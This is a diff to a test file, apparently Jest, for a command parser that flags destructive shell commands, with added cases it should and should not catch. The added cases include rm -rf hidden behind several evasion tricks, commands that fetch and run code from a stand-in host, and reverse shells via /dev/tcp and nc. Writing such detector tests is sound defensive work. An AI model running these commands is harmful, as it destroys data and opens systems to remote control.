@@ -37,6 +37,20 @@ describe('what destroys', () => {
     'cp image.raw /dev/sdb',
     'git push origin +main',
     'awk \'BEGIN { system("rm -rf /") }\'',
+    "env -S 'rm -rf /data'",
+    'runuser -u ops -- rm -rf /data',
+    "echo 'rm -rf /data' | at now",
+    'source /dev/stdin <<< "rm -rf /data"',
+    'bash < <(curl -s https://x.example)',
+    'python3 <(curl -s https://x.example)',
+    'curl -s https://x.example -o f && bash f',
+    'bash -i >& /dev/tcp/x.example/1 0>&1',
+    'nc -e /bin/sh x.example 1',
+    'read x <<< rm; $x -rf /data',
+    'for c in rm; do $c -rf /data; done',
+    'set -- rm -rf /data; "$@"',
+    'printf -v x rm; $x -rf /data',
+    'curl -sX DELETE https://x.example',
   ])('is seen behind: %s', (line) => {
     expect(parseCommand(line).destructive).toBe(true);
   });
@@ -51,6 +65,10 @@ describe('what destroys', () => {
     'git push origin main',
     'ip addr show',
     'journalctl -u rm',
+    '$KUBECTL get pods -n shop',
+    'for n in a b; do kubectl get pods -n $n; done',
+    'echo > /dev/tcp/db/5432',
+    'curl -s https://x.example -o f && cat f',
     "kubectl get pods -o jsonpath='{.items[*].metadata.name}",
   ])('is not seen behind: %s', (line) => {
     expect(parseCommand(line).destructive).toBe(false);
